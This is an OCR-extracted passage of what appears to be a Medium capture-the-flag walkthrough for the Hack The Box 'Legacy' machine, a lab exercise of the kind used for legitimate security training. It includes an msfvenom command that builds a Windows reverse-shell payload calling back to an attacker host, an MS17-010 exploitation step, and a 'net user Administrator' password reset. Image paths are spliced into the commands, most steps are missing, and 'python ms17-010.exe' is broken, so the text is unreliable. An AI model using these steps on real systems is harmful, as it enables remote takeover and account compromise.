HTB: Walkthrough without Metasploit. ~[LEGACY]

1. Scanning and Information gathering:-

2. Gaining Initial access and Exploitation

Use MSFvenom to create a reverse shell payload (allowed on the OSCP as long as you’re not using meterpreter).

msfvenom -p windows/shell_reverse_tcp LHOST= LPORT=443EXITFUNC=thread -f exe -a x86 --platform windows -o ms17-010.exe
python ms17-010.exe
C:\> systeminfo

3. Going beyond the flags.

here we are going to learn a new concept about RDP.

nmap -p3389
net user Administrator test



Get the Medium app

A button that says 'Download on the App Store', and ifclicked it will lead you tothe iOS App store
A buttonthat says 'Get it on, Google Play', and ifclicked it will lead you to the Google Play store